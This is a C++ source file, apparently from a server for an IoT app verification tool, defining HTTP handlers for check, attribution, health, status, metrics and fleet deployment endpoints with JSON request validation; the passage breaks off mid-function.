}  // namespace iotsan::checker
