#include "server/handlers.hpp"

#include <cstdio>
#include <limits>
#include <optional>
#include <string_view>

#include "checker/checker.hpp"
#include "cluster/cluster.hpp"
#include "config/deployment.hpp"
#include "corpus/corpus.hpp"
#include "props/loader.hpp"
#include "registry/fleet.hpp"
#include "telemetry/prometheus.hpp"
#include "telemetry/telemetry.hpp"
#include "util/build_info.hpp"
#include "util/thread_pool.hpp"

namespace iotsan::server {

namespace {

json::Value ParseBodyJson(const std::string& body) {
  try {
    return json::Parse(body);
  } catch (const Error& e) {
    throw RequestError(400, kErrBadJson,
                       std::string("request body is not valid JSON: ") +
                           e.what());
  }
}

/// Top-level validation shared by both POST endpoints: JSON object with
/// the supported schema tag and a deployment object.
const json::Value& ValidateEnvelope(const json::Value& doc) {
  if (!doc.is_object()) {
    throw RequestError(400, kErrBadSchema,
                       "request body must be a JSON object");
  }
  if (!doc.Has("schema") || !doc.At("schema").is_string()) {
    throw RequestError(400, kErrBadSchema,
                       std::string("missing request schema tag; expected "
                                   "\"schema\": \"") +
                           kRequestSchema + "\"");
  }
  if (doc.At("schema").AsString() != kRequestSchema) {
    throw RequestError(400, kErrBadSchema,
                       "unsupported request schema '" +
                           doc.At("schema").AsString() + "' (this server "
                           "speaks " + kRequestSchema + ")");
  }
  if (!doc.Has("deployment") || !doc.At("deployment").is_object()) {
    throw RequestError(400, kErrBadSchema,
                       "request needs a \"deployment\" object (the same "
                       "document `iotsan check` reads from a file)");
  }
  return doc.At("deployment");
}

long long RequireInt(const json::Value& value, const char* key,
                     long long min, long long max) {
  if (!value.is_number()) {
    throw RequestError(400, kErrBadRequest,
                       std::string("option \"") + key + "\" must be an "
                       "integer");
  }
  const std::int64_t n = value.AsInt();
  if (n < min || n > max) {
    throw RequestError(400, kErrBadRequest,
                       std::string("option \"") + key + "\" wants a value "
                       "in [" + std::to_string(min) + ", " +
                       std::to_string(max) + "], got " + std::to_string(n));
  }
  return n;
}

bool RequireBool(const json::Value& value, const char* key) {
  if (!value.is_bool()) {
    throw RequestError(400, kErrBadRequest,
                       std::string("option \"") + key + "\" must be a "
                       "boolean");
  }
  return value.AsBool();
}

/// Parses the request's "options" object.  Every key is validated
/// against the same ranges the CLI flag table enforces; unknown keys are
/// rejected so a typo can never silently fall back to a default.
core::RequestOptions ParseOptions(const json::Value& doc,
                                  ParsedOptionsMeta* meta) {
  core::RequestOptions out;
  if (!doc.Has("options")) return out;
  const json::Value& options = doc.At("options");
  if (!options.is_object()) {
    throw RequestError(400, kErrBadRequest,
                       "\"options\" must be a JSON object");
  }
  for (const auto& [key, value] : options.AsObject()) {
    if (key == "events") {
      out.events = static_cast<int>(RequireInt(value, "events", 1, 64));
    } else if (key == "jobs") {
      out.jobs = static_cast<int>(RequireInt(value, "jobs", 0, 1024));
      if (meta != nullptr) meta->jobs_given = true;
    } else if (key == "failures") {
      out.failures = RequireBool(value, "failures");
    } else if (key == "mono") {
      out.mono = RequireBool(value, "mono");
    } else if (key == "bitstate") {
      out.bitstate = RequireBool(value, "bitstate");
    } else if (key == "bitstateBits") {
      out.bitstate_bits_pow =
          static_cast<int>(RequireInt(value, "bitstateBits", 10, 40));
      out.bitstate = true;
    } else if (key == "por") {
      out.por = RequireBool(value, "por");
    } else if (key == "stateCompression") {
      out.state_compression = RequireBool(value, "stateCompression");
    } else if (key == "first") {
      out.first = RequireBool(value, "first");
    } else if (key == "reverifyBitstate") {
      out.reverify_bitstate = RequireBool(value, "reverifyBitstate");
    } else if (key == "allowDiscovery") {
      out.allow_discovery = RequireBool(value, "allowDiscovery");
    } else if (key == "deadlineSeconds") {
      out.deadline_seconds = static_cast<double>(
          RequireInt(value, "deadlineSeconds", 0, 86400));
      if (meta != nullptr) meta->deadline_given = true;
    } else if (key == "groupApps") {
      // Cluster work unit: check exactly this related-set group (app
      // indices into the deployment, as planned by the coordinator).
      if (!value.is_array() || value.AsArray().empty()) {
        throw RequestError(400, kErrBadRequest,
                           "\"groupApps\" must be a non-empty array of "
                           "app indices");
      }
      for (const json::Value& index : value.AsArray()) {
        out.group_apps.push_back(static_cast<std::size_t>(
            RequireInt(index, "groupApps[]", 0, 1 << 20)));
      }
    } else if (key == "branchModulus") {
      out.branch_modulus = static_cast<unsigned>(
          RequireInt(value, "branchModulus", 1, 1 << 16));
    } else if (key == "branchResidue") {
      out.branch_residue = static_cast<unsigned>(
          RequireInt(value, "branchResidue", 0, 1 << 16));
    } else if (key == "bitstateSeed") {
      out.bitstate_seed = static_cast<std::uint64_t>(
          RequireInt(value, "bitstateSeed", 0,
                     std::numeric_limits<long long>::max()));
    } else {
      throw RequestError(400, kErrBadRequest,
                         "unknown option \"" + key + "\"");
    }
  }
  return out;
}

config::Deployment ParseDeploymentOrThrow(const json::Value& doc) {
  try {
    return config::ParseDeployment(doc);
  } catch (const Error& e) {
    throw RequestError(400, kErrBadRequest,
                       std::string("invalid deployment: ") + e.what());
  }
}

std::map<std::string, std::string> ParseInlineSources(
    const json::Value& doc) {
  std::map<std::string, std::string> out;
  if (!doc.Has("appSources")) return out;
  const json::Value& sources = doc.At("appSources");
  if (!sources.is_object()) {
    throw RequestError(400, kErrBadRequest,
                       "\"appSources\" must map app names to inline "
                       "SmartScript source text");
  }
  for (const auto& [name, source] : sources.AsObject()) {
    if (!source.is_string()) {
      throw RequestError(400, kErrBadRequest,
                         "appSources entry \"" + name + "\" must be the "
                         "source text itself (the service never reads "
                         "files)");
    }
    out[name] = source.AsString();
  }
  return out;
}

std::vector<props::Property> ParseInlineProperties(const json::Value& doc) {
  if (!doc.Has("properties")) return {};
  const json::Value& properties = doc.At("properties");
  if (!properties.is_array()) {
    throw RequestError(400, kErrBadRequest,
                       "\"properties\" must be an array of property "
                       "objects");
  }
  try {
    return props::LoadPropertiesJson(properties.Dump(0));
  } catch (const Error& e) {
    throw RequestError(400, kErrBadRequest,
                       std::string("invalid properties: ") + e.what());
  }
}

/// Fills request defaults a resident server owns: worker lanes come
/// from the shared pool unless the request pins them, the deadline from
/// the server config unless the request sets its own.
void ApplyServerDefaults(core::RequestOptions& options,
                         const ParsedOptionsMeta& meta,
                         const ServiceState& state) {
  if (!meta.jobs_given && state.env.pool != nullptr) {
    options.jobs = static_cast<int>(state.env.pool->jobs());
  }
  if (!meta.deadline_given) {
    options.deadline_seconds = state.request_deadline_seconds;
  }
}

json::Object ResponseEnvelope() {
  json::Object doc;
  doc["schema"] = kResponseSchema;
  return doc;
}

HttpResponse JsonResponse(int status, json::Object body) {
  HttpResponse response;
  response.status = status;
  response.body = json::Value(std::move(body)).Dump(0) + "\n";
  return response;
}

/// 405 with the Allow header RFC 9110 requires.
HttpResponse MethodNotAllowed(const std::string& allow,
                              const std::string& path,
                              const std::string& request_id) {
  HttpResponse response =
      ErrorResponse(405, kErrMethod, "use " + allow + " " + path, request_id);
  response.headers.emplace_back("Allow", allow);
  return response;
}

/// Revision tokens travel as strong ETags: `"3"`.
std::string ETagValue(std::uint64_t revision) {
  return "\"" + std::to_string(revision) + "\"";
}

/// An If-Match header pins the revision a check may run against.
/// Accepts the quoted ETag form, a bare integer, or `*` (no pin).
std::optional<std::uint64_t> ParseIfMatch(const HttpRequest& request) {
  const auto it = request.headers.find("if-match");
  if (it == request.headers.end()) return std::nullopt;
  std::string value = it->second;
  if (value == "*") return std::nullopt;
  if (value.size() >= 2 && value.front() == '"' && value.back() == '"') {
    value = value.substr(1, value.size() - 2);
  }
  if (value.empty() || value.size() > 20 ||
      value.find_first_not_of("0123456789") != std::string::npos) {
    throw RequestError(400, kErrBadRequest,
                       "If-Match wants a revision token as served in ETag "
                       "(\"3\"), or *");
  }
  return std::stoull(value);
}

double UptimeSeconds(const ServiceState& state) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() -
                                       state.start_time)
      .count();
}

void RefreshServerGauges(const ServiceState& state) {
  auto* t = telemetry::Active();
  if (t == nullptr) return;
  if (state.active_connections != nullptr) {
    t->server.active_connections.store(
        state.active_connections->load(std::memory_order_relaxed),
        std::memory_order_relaxed);
  }
  if (state.queue_depth != nullptr) {
    t->server.queue_depth.store(
        state.queue_depth->load(std::memory_order_relaxed),
        std::memory_order_relaxed);
  }
}

HttpResponse HandleHealth(const ServiceState& state,
                          const std::string& request_id) {
  const build::BuildInfo& info = build::GetBuildInfo();
  json::Object doc;
  doc["status"] = state.draining != nullptr &&
                          state.draining->load(std::memory_order_relaxed)
                      ? "draining"
                      : "ok";
  doc["version"] = info.version;
  json::Object build_obj;
  build_obj["compiler"] = info.compiler;
  build_obj["build_type"] = info.build_type;
  build_obj["standard"] = info.standard;
  doc["build"] = std::move(build_obj);
  doc["uptime_seconds"] = UptimeSeconds(state);
  if (state.active_connections != nullptr) {
    doc["active_connections"] = static_cast<std::int64_t>(
        state.active_connections->load(std::memory_order_relaxed));
  }
  if (state.queue_depth != nullptr) {
    doc["queue_depth"] = static_cast<std::int64_t>(
        state.queue_depth->load(std::memory_order_relaxed));
  }
  if (state.inflight != nullptr) {
    doc["inflight_requests"] =
        static_cast<std::int64_t>(state.inflight->size());
  }
  if (state.events != nullptr) {
    doc["event_subscribers"] =
        static_cast<std::int64_t>(state.events->subscriber_count());
  }
  doc["request_id"] = request_id;
  return JsonResponse(200, std::move(doc));
}

/// `GET /v1/status`: the live in-flight snapshot `iotsan top` polls —
/// one object per running verification with monotonically advancing
/// groups_done, cumulative states, the latest group's store footprint,
/// and elapsed time against the request deadline.
HttpResponse HandleStatus(const ServiceState& state,
                          const std::string& request_id) {
  if (auto* t = telemetry::Active()) telemetry::SamplePeakRss(*t);
  json::Object doc;
  doc["schema"] = "iotsan.status/1";
  doc["status"] = state.draining != nullptr &&
                          state.draining->load(std::memory_order_relaxed)
                      ? "draining"
                      : "ok";
  doc["uptime_seconds"] = UptimeSeconds(state);
  if (state.active_connections != nullptr) {
    doc["active_connections"] = static_cast<std::int64_t>(
        state.active_connections->load(std::memory_order_relaxed));
  }
  if (state.queue_depth != nullptr) {
    doc["queue_depth"] = static_cast<std::int64_t>(
        state.queue_depth->load(std::memory_order_relaxed));
  }
  doc["peak_rss_bytes"] =
      static_cast<std::int64_t>(telemetry::ReadPeakRssBytes());
  doc["inflight"] = state.inflight != nullptr ? state.inflight->Snapshot()
                                              : json::Array();
  if (state.coordinator != nullptr) {
    // One row per configured worker: health from the last probe plus
    // dispatch accounting (docs/cluster.md).
    json::Array workers;
    for (const cluster::WorkerStatus& status :
         state.coordinator->WorkerRows()) {
      json::Object row;
      row["endpoint"] = status.endpoint;
      row["healthy"] = status.healthy;
      row["units_done"] = static_cast<std::int64_t>(status.units_done);
      row["units_failed"] = static_cast<std::int64_t>(status.units_failed);
      row["retries"] = static_cast<std::int64_t>(status.retries);
      row["last_latency_ms"] = status.last_latency_ms;
      if (!status.last_error.empty()) row["last_error"] = status.last_error;
      workers.push_back(json::Value(std::move(row)));
    }
    json::Object cluster_obj;
    cluster_obj["workers"] = std::move(workers);
    doc["cluster"] = std::move(cluster_obj);
  }
  doc["request_id"] = request_id;
  return JsonResponse(200, std::move(doc));
}

/// A metrics request asks for Prometheus exposition either explicitly
/// (`?format=prometheus`) or via an Accept header naming text/plain;
/// everything else gets the iotsan.metrics/1 JSON document.
bool WantsPrometheus(const HttpRequest& request) {
  const std::size_t query = request.target.find('?');
  if (query != std::string::npos) {
    const std::string params = request.target.substr(query + 1);
    std::size_t pos = 0;
    while (pos <= params.size()) {
      const std::size_t amp = params.find('&', pos);
      const std::string param =
          params.substr(pos, amp == std::string::npos ? amp : amp - pos);
      if (param == "format=prometheus") return true;
      if (amp == std::string::npos) break;
      pos = amp + 1;
    }
  }
  const auto accept = request.headers.find("accept");
  return accept != request.headers.end() &&
         accept->second.find("text/plain") != std::string::npos;
}

HttpResponse HandleMetrics(const HttpRequest& request,
                           const ServiceState& state) {
  RefreshServerGauges(state);
  if (WantsPrometheus(request)) {
    HttpResponse response;
    response.status = 200;
    response.content_type = telemetry::kPrometheusContentType;
    if (auto* t = telemetry::Active()) {
      response.body = telemetry::RenderPrometheus(*t);
    }
    return response;
  }
  // The JSON document stays byte-compatible with iotsan.metrics/1, so
  // no request_id is injected here.
  json::Object doc;
  doc["schema"] = "iotsan.metrics/1";
  doc["uptime_seconds"] = UptimeSeconds(state);
  if (auto* t = telemetry::Active()) {
    doc["counters"] = t->ToJson();
  } else {
    doc["counters"] = json::Object();
  }
  return JsonResponse(200, std::move(doc));
}

HttpResponse HandleVersion(const std::string& request_id) {
  const build::BuildInfo& info = build::GetBuildInfo();
  json::Object doc;
  doc["version"] = info.version;
  doc["compiler"] = info.compiler;
  doc["build_type"] = info.build_type;
  doc["standard"] = info.standard;
  doc["line"] = build::VersionLine();
  doc["request_id"] = request_id;
  return JsonResponse(200, std::move(doc));
}

/// Unregisters an in-flight entry when the request leaves scope, so a
/// throwing handler can never leak a forever-"running" row in
/// /v1/status.
class InflightGuard {
 public:
  InflightGuard(InflightTable* table, std::string request_id)
      : table_(table), request_id_(std::move(request_id)) {}
  ~InflightGuard() {
    if (table_ != nullptr) table_->Finish(request_id_);
  }
  InflightGuard(const InflightGuard&) = delete;
  InflightGuard& operator=(const InflightGuard&) = delete;

 private:
  InflightTable* table_;
  std::string request_id_;
};

/// Streams per-group progress into the /v1/status in-flight table and
/// the SSE broker; shared by /v1/check and the fleet check endpoint.
void WireProgressEvents(core::ServiceEnv& env, const ServiceState& state,
                        const std::string& request_id) {
  if (state.inflight == nullptr && state.events == nullptr) return;
  InflightTable* inflight = state.inflight;
  EventBroker* events = state.events;
  env.on_group_progress = [inflight, events, request_id](
                              const telemetry::GroupProgress& progress) {
    if (inflight != nullptr) inflight->Update(request_id, progress);
    if (events != nullptr && events->subscriber_count() > 0) {
      json::Object data;
      data["request_id"] = request_id;
      data["groups_total"] =
          static_cast<std::int64_t>(progress.groups_total);
      data["groups_done"] =
          static_cast<std::int64_t>(progress.groups_done);
      data["states_explored"] =
          static_cast<std::int64_t>(progress.states_explored);
      data["store_memory_bytes"] =
          static_cast<std::int64_t>(progress.store_memory_bytes);
      data["group_seconds"] = progress.seconds;
      events->Publish(
          {"progress", json::Value(std::move(data)).Dump(0)});
    }
  };
}

HttpResponse HandleCheck(const HttpRequest& request,
                         const ServiceState& state,
                         const std::string& request_id) {
  ParsedOptionsMeta meta;
  core::CheckRequest check = ParseCheckRequest(request.body, &meta);
  ApplyServerDefaults(check.options, meta, state);
  // Per-request env copy: the shared env serves every request, the id
  // belongs to this one.  It flows into CheckOptions::request_id and
  // from there into spans and artifact manifests.
  core::ServiceEnv env = state.env;
  env.request_id = request_id;

  // Cluster work unit (options.groupApps): a coordinator planned this
  // related-set group — possibly one branch shard or swarm lane of it —
  // and wants the raw CheckResult back, not a rendered report.  This is
  // the worker half of the protocol, so it never re-enters the
  // coordinator even when this node is one.
  if (!check.options.group_apps.empty()) {
    checker::CheckResult unit;
    try {
      unit = core::RunCheckUnit(check, env);
    } catch (const Error& e) {
      throw RequestError(400, kErrBadRequest, e.what());
    }
    if (auto* t = telemetry::Active()) ++t->server.checks;
    json::Object doc = ResponseEnvelope();
    doc["unit"] = cluster::CheckResultToJson(unit);
    doc["request_id"] = request_id;
    return JsonResponse(200, std::move(doc));
  }

  // Live introspection: register the request in the /v1/status table and
  // stream per-group progress to it (and to any SSE subscriber).  The
  // callback fires from whichever pool thread finished a group;
  // InflightTable and EventBroker are thread-safe.
  const std::string fingerprint =
      config::DeploymentFingerprintHex(check.deployment);
  if (state.inflight != nullptr) {
    InflightEntry entry;
    entry.request_id = request_id;
    entry.endpoint = "check";
    entry.deployment = check.deployment.name;
    entry.fingerprint = fingerprint;
    entry.deadline_seconds = check.options.deadline_seconds;
    entry.started = std::chrono::steady_clock::now();
    state.inflight->Register(entry);
  }
  InflightGuard inflight_guard(state.inflight, request_id);
  WireProgressEvents(env, state, request_id);

  // Coordinator mode: plan work units and dispatch them to the worker
  // fleet; the merged response is byte-identical to a local run (see
  // src/cluster).  Standalone nodes run the check in-process.
  cluster::ClusterOutcome cluster_outcome;
  const bool coordinated = state.coordinator != nullptr;
  if (coordinated) {
    cluster_outcome = state.coordinator->Check(check, env);
  }
  core::CheckResponse result = coordinated
                                   ? std::move(cluster_outcome.response)
                                   : core::RunCheck(check, env);
  if (state.events != nullptr && state.events->subscriber_count() > 0) {
    json::Object data;
    data["request_id"] = request_id;
    data["verdict"] =
        result.report.violations.empty() ? "clean" : "violations";
    data["exit_code"] = result.exit_code;
    data["violations"] =
        static_cast<std::int64_t>(result.report.violations.size());
    data["related_sets"] =
        static_cast<std::int64_t>(result.report.related_set_count);
    data["states_explored"] =
        static_cast<std::int64_t>(result.report.states_explored);
    data["seconds"] = result.report.seconds;
    data["completed"] = result.report.completed;
    state.events->Publish(
        {"verdict", json::Value(std::move(data)).Dump(0)});
  }
  if (auto* t = telemetry::Active()) {
    ++t->server.checks;
    if (!result.report.completed && check.options.deadline_seconds > 0) {
      ++t->server.deadline_hits;
    }
  }
  json::Object doc = ResponseEnvelope();
  doc["verdict"] =
      result.report.violations.empty() ? "clean" : "violations";
  doc["exit_code"] = result.exit_code;
  doc["text"] = result.text;
  doc["report"] = core::CheckReportToJson(check.deployment, result.report);
  if (!result.report.violations.empty()) {
    // Full replayable artifacts, manifest stamped with this request's
    // id — the same bundles `iotsan check --artifacts-dir` writes.
    const checker::CheckOptions effective =
        core::MakeCheckOptions(check.options, env).check;
    json::Array artifacts;
    for (const checker::Violation& violation : result.report.violations) {
      artifacts.push_back(checker::ToJson(checker::MakeArtifact(
          violation, effective, check.deployment.name, fingerprint)));
    }
    doc["artifacts"] = std::move(artifacts);
  }
  if (coordinated) {
    json::Object cluster_obj;
    cluster_obj["units_total"] =
        static_cast<std::int64_t>(cluster_outcome.units_total);
    cluster_obj["units_remote"] =
        static_cast<std::int64_t>(cluster_outcome.units_remote);
    cluster_obj["units_local"] =
        static_cast<std::int64_t>(cluster_outcome.units_local);
    cluster_obj["units_redispatched"] =
        static_cast<std::int64_t>(cluster_outcome.units_redispatched);
    cluster_obj["degraded_local"] = cluster_outcome.degraded_local;
    doc["cluster"] = std::move(cluster_obj);
  }
  doc["request_id"] = request_id;
  return JsonResponse(200, std::move(doc));
}

HttpResponse HandleAttribute(const HttpRequest& request,
                             const ServiceState& state,
                             const std::string& request_id) {
  ParsedOptionsMeta meta;
  core::AttributeRequest attribute =
      ParseAttributeRequest(request.body, &meta);
  ApplyServerDefaults(attribute.options, meta, state);
  core::ServiceEnv env = state.env;
  env.request_id = request_id;
  core::AttributeResponse result = core::RunAttribute(attribute, env);
  if (auto* t = telemetry::Active()) ++t->server.attributions;
  json::Object doc = ResponseEnvelope();
  doc["verdict"] = std::string(attrib::VerdictName(result.result.verdict));
  doc["exit_code"] = result.exit_code;
  doc["text"] = result.text;
  doc["report"] = core::AttributionToJson(result.app_name, result.result);
  doc["request_id"] = request_id;
  return JsonResponse(200, std::move(doc));
}

// ---- fleet registry (docs/fleet.md) ------------------------------------------

/// `GET /v1/deployments`: one status row per stored deployment.
HttpResponse HandleDeploymentList(const ServiceState& state,
                                  const std::string& request_id) {
  json::Object doc;
  doc["schema"] = "iotsan.deployments/1";
  json::Array rows;
  for (const registry::Fleet::Status& status : state.registry->List()) {
    json::Object row;
    row["id"] = status.id;
    row["revision"] = static_cast<std::int64_t>(status.revision);
    row["checked_revision"] =
        static_cast<std::int64_t>(status.checked_revision);
    row["verdict"] = status.verdict;
    row["groups_total"] = static_cast<std::int64_t>(status.groups_total);
    row["groups_recomputed"] =
        static_cast<std::int64_t>(status.groups_recomputed);
    row["check_seconds"] = status.check_seconds;
    rows.push_back(json::Value(std::move(row)));
  }
  doc["deployments"] = std::move(rows);
  doc["request_id"] = request_id;
  return JsonResponse(200, std::move(doc));
}

/// `PUT /v1/deployments/{id}`: upsert from the same iotsan.request/1
/// envelope POST /v1/check reads (an "options" key is ignored — options
/// belong to check requests).  201 on create, 200 on update; the new
/// revision travels in ETag and the body.
HttpResponse HandleDeploymentPut(const HttpRequest& request,
                                 const ServiceState& state,
                                 const std::string& request_id,
                                 const std::string& id) {
  const json::Value doc = ParseBodyJson(request.body);
  const json::Value& deployment_json = ValidateEnvelope(doc);
  registry::StoredDeployment stored;
  stored.id = id;
  stored.deployment = ParseDeploymentOrThrow(deployment_json);
  stored.app_sources = ParseInlineSources(doc);
  // Validate inline properties now so a bad PUT fails fast, but persist
  // the raw JSON: the stored document round-trips what the client sent.
  ParseInlineProperties(doc);
  if (doc.Has("properties")) {
    stored.properties_json = doc.At("properties").Dump(0);
  }
  const std::uint64_t revision = state.registry->Put(std::move(stored));
  json::Object body = ResponseEnvelope();
  body["id"] = id;
  body["revision"] = static_cast<std::int64_t>(revision);
  body["request_id"] = request_id;
  HttpResponse response =
      JsonResponse(revision == 1 ? 201 : 200, std::move(body));
  response.headers.emplace_back("ETag", ETagValue(revision));
  return response;
}

/// `GET /v1/deployments/{id}`: the stored iotsan.deployment/1 document
/// verbatim, revision in ETag.
HttpResponse HandleDeploymentGet(const ServiceState& state,
                                 const std::string& id) {
  auto deployment = state.registry->Get(id);
  if (!deployment) {
    throw RequestError(404, kErrNotFound, "no such deployment: " + id);
  }
  HttpResponse response;
  response.status = 200;
  response.body = registry::StoredDeploymentToJson(*deployment).Dump(0) + "\n";
  response.headers.emplace_back("ETag", ETagValue(deployment->revision));
  return response;
}

HttpResponse HandleDeploymentDelete(const ServiceState& state,
                                    const std::string& request_id,
                                    const std::string& id) {
  if (!state.registry->Remove(id)) {
    throw RequestError(404, kErrNotFound, "no such deployment: " + id);
  }
  json::Object doc = ResponseEnvelope();
  doc["id"] = id;
  doc["deleted"] = true;
  doc["request_id"] = request_id;
  return JsonResponse(200, std::move(doc));
}

/// `POST /v1/deployments/{id}/check`: delta re-verification against the
/// retained prior.  The body may be empty (server defaults) or carry an
/// iotsan.request/1 "options" object; If-Match pins a revision (409
/// when stale).
HttpResponse HandleDeploymentCheck(const HttpRequest& request,
                                   const ServiceState& state,
                                   const std::string& request_id,
                                   const std::string& id) {
  const std::optional<std::uint64_t> if_match = ParseIfMatch(request);
  ParsedOptionsMeta meta;
  core::RequestOptions options;
  if (!request.body.empty()) {
    const json::Value doc = ParseBodyJson(request.body);
    if (!doc.is_object()) {
      throw RequestError(400, kErrBadSchema,
                         "check body must be a JSON object (or empty for "
                         "server defaults)");
    }
    if (doc.Has("schema") && (!doc.At("schema").is_string() ||
                              doc.At("schema").AsString() != kRequestSchema)) {
      throw RequestError(400, kErrBadSchema,
                         std::string("unsupported request schema (this "
                                     "server speaks ") + kRequestSchema + ")");
    }
    options = ParseOptions(doc, &meta);
  }
  ApplyServerDefaults(options, meta, state);
  core::ServiceEnv env = state.env;
  env.request_id = request_id;
  if (state.inflight != nullptr) {
    InflightEntry entry;
    entry.request_id = request_id;
    entry.endpoint = "fleet_check";
    entry.deployment = id;
    entry.deadline_seconds = options.deadline_seconds;
    entry.started = std::chrono::steady_clock::now();
    state.inflight->Register(entry);
  }
  InflightGuard inflight_guard(state.inflight, request_id);
  WireProgressEvents(env, state, request_id);

  std::optional<registry::Fleet::CheckOutcome> outcome;
  try {
    outcome = state.registry->Check(id, if_match, options, env);
  } catch (const registry::RevisionConflict& e) {
    // The message carries both revisions; the client re-GETs for the
    // fresh ETag and retries.
    throw RequestError(409, kErrConflict, e.what());
  }
  if (!outcome) {
    throw RequestError(404, kErrNotFound, "no such deployment: " + id);
  }
  json::Object doc = ResponseEnvelope();
  doc["id"] = id;
  doc["revision"] = static_cast<std::int64_t>(outcome->revision);
  doc["verdict"] = outcome->response.report.violations.empty()
                       ? "clean"
                       : "violations";
  doc["exit_code"] = outcome->response.exit_code;
  doc["text"] = outcome->response.text;
  json::Object delta;
  delta["groups_total"] = static_cast<std::int64_t>(outcome->groups_total);
  delta["groups_reused"] = static_cast<std::int64_t>(outcome->groups_reused);
  delta["groups_recomputed"] =
      static_cast<std::int64_t>(outcome->groups_recomputed);
  doc["delta"] = std::move(delta);
  doc["check_seconds"] = outcome->check_seconds;
  doc["request_id"] = request_id;
  HttpResponse response = JsonResponse(200, std::move(doc));
  response.headers.emplace_back("ETag", ETagValue(outcome->revision));
  return response;
}

/// Dispatches everything under /v1/deployments.  The id segment doubles
/// as a directory name in the store, so validation happens before any
/// handler runs; `context` learns the id for the access log.
HttpResponse RouteDeployments(const HttpRequest& request,
                              const std::string& path,
                              const ServiceState& state,
                              const std::string& request_id,
                              RequestContext* context) {
  if (state.registry == nullptr) {
    throw RequestError(404, kErrNotFound,
                       "fleet registry is not enabled on this server");
  }
  if (path == "/v1/deployments") {
    if (request.method != "GET") {
      return MethodNotAllowed("GET", path, request_id);
    }
    return HandleDeploymentList(state, request_id);
  }
  std::string id = path.substr(std::string("/v1/deployments/").size());
  bool check = false;
  constexpr std::string_view kCheckSuffix = "/check";
  if (id.size() > kCheckSuffix.size() &&
      id.compare(id.size() - kCheckSuffix.size(), kCheckSuffix.size(),
                 kCheckSuffix) == 0) {
    check = true;
    id.resize(id.size() - kCheckSuffix.size());
  }
  if (!registry::IsValidDeploymentId(id)) {
    throw RequestError(400, kErrBadRequest,
                       "invalid deployment id \"" + id + "\" (want 1-64 of "
                       "[A-Za-z0-9._-], no leading dot)");
  }
  if (context != nullptr) context->deployment_id = id;
  if (check) {
    if (request.method != "POST") {
      return MethodNotAllowed("POST", path, request_id);
    }
    return HandleDeploymentCheck(request, state, request_id, id);
  }
  if (request.method == "PUT") {
    return HandleDeploymentPut(request, state, request_id, id);
  }
  if (request.method == "GET") {
    return HandleDeploymentGet(state, id);
  }
  if (request.method == "DELETE") {
    return HandleDeploymentDelete(state, request_id, id);
  }
  return MethodNotAllowed("GET, PUT, DELETE", path, request_id);
}

}  // namespace

HttpResponse ErrorResponse(int status, const std::string& code,
                           const std::string& message,
                           const std::string& request_id) {
  json::Object error;
  error["code"] = code;
  error["message"] = message;
  json::Object doc;
  doc["error"] = std::move(error);
  if (!request_id.empty()) doc["request_id"] = request_id;
  HttpResponse response = JsonResponse(status, std::move(doc));
  if (!request_id.empty()) {
    response.headers.emplace_back("X-Request-Id", request_id);
  }
  return response;
}

bool IsValidRequestId(const std::string& id) {
  if (id.empty() || id.size() > 64) return false;
  for (char c : id) {
    const bool ok = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
                    (c >= '0' && c <= '9') || c == '.' || c == '_' ||
                    c == '-';
    if (!ok) return false;
  }
  return true;
}

std::string GenerateRequestId() {
  static std::atomic<std::uint64_t> counter{0};
  // splitmix64 over a timestamp + per-process sequence: unique within
  // the process, well-mixed across restarts.  Not a security token.
  std::uint64_t x = static_cast<std::uint64_t>(
      std::chrono::steady_clock::now().time_since_epoch().count());
  x += 0x9e3779b97f4a7c15ULL *
       (counter.fetch_add(1, std::memory_order_relaxed) + 1);
  x ^= x >> 30;
  x *= 0xbf58476d1ce4e5b9ULL;
  x ^= x >> 27;
  x *= 0x94d049bb133111ebULL;
  x ^= x >> 31;
  char buf[17];
  std::snprintf(buf, sizeof buf, "%016llx",
                static_cast<unsigned long long>(x));
  return buf;
}

core::CheckRequest ParseCheckRequest(const std::string& body,
                                     ParsedOptionsMeta* meta) {
  const json::Value doc = ParseBodyJson(body);
  const json::Value& deployment = ValidateEnvelope(doc);
  core::CheckRequest out;
  out.deployment = ParseDeploymentOrThrow(deployment);
  out.extra_sources = ParseInlineSources(doc);
  out.extra_properties = ParseInlineProperties(doc);
  out.options = ParseOptions(doc, meta);
  return out;
}

core::AttributeRequest ParseAttributeRequest(const std::string& body,
                                             ParsedOptionsMeta* meta) {
  const json::Value doc = ParseBodyJson(body);
  const json::Value& deployment = ValidateEnvelope(doc);
  core::AttributeRequest out;
  out.deployment = ParseDeploymentOrThrow(deployment);
  out.options = ParseOptions(doc, meta);
  if (!doc.Has("app") || !doc.At("app").is_object()) {
    throw RequestError(400, kErrBadSchema,
                       "attribute requests need an \"app\" object: "
                       "{\"source\": \"<SmartScript>\"} or "
                       "{\"corpus\": \"<bundled app name>\"}");
  }
  const json::Value& app = doc.At("app");
  if (app.Has("source")) {
    if (!app.At("source").is_string()) {
      throw RequestError(400, kErrBadRequest,
                         "\"app.source\" must be SmartScript text");
    }
    out.app_source = app.At("source").AsString();
  } else if (app.Has("corpus")) {
    if (!app.At("corpus").is_string()) {
      throw RequestError(400, kErrBadRequest,
                         "\"app.corpus\" must be a bundled app name");
    }
    const std::string name = app.At("corpus").AsString();
    const corpus::CorpusApp* found = corpus::FindApp(name);
    if (found == nullptr) {
      throw RequestError(400, kErrBadRequest,
                         "unknown corpus app \"" + name + "\" (GET "
                         "/v1/apps is not served; see `iotsan apps`)");
    }
    out.app_source = found->source;
  } else {
    throw RequestError(400, kErrBadSchema,
                       "\"app\" needs either \"source\" or \"corpus\"");
  }
  return out;
}

HttpResponse Route(const HttpRequest& request, const ServiceState& state,
                   RequestContext* context) {
  if (auto* t = telemetry::Active()) ++t->server.requests;
  const auto header = request.headers.find("x-request-id");
  const std::string request_id =
      header != request.headers.end() && IsValidRequestId(header->second)
          ? header->second
          : GenerateRequestId();
  if (context != nullptr) context->request_id = request_id;
  HttpResponse response;
  std::string error_code;
  try {
    // Strip the query string for dispatch (HandleMetrics still sees the
    // raw target for its ?format= negotiation): the API carries
    // everything else in bodies.
    std::string path = request.target.substr(0, request.target.find('?'));
    if (path == "/v1/health") {
      response = request.method == "GET"
                     ? HandleHealth(state, request_id)
                     : MethodNotAllowed("GET", path, request_id);
    } else if (path == "/v1/status") {
      response = request.method == "GET"
                     ? HandleStatus(state, request_id)
                     : MethodNotAllowed("GET", path, request_id);
    } else if (path == "/v1/metrics") {
      response = request.method == "GET"
                     ? HandleMetrics(request, state)
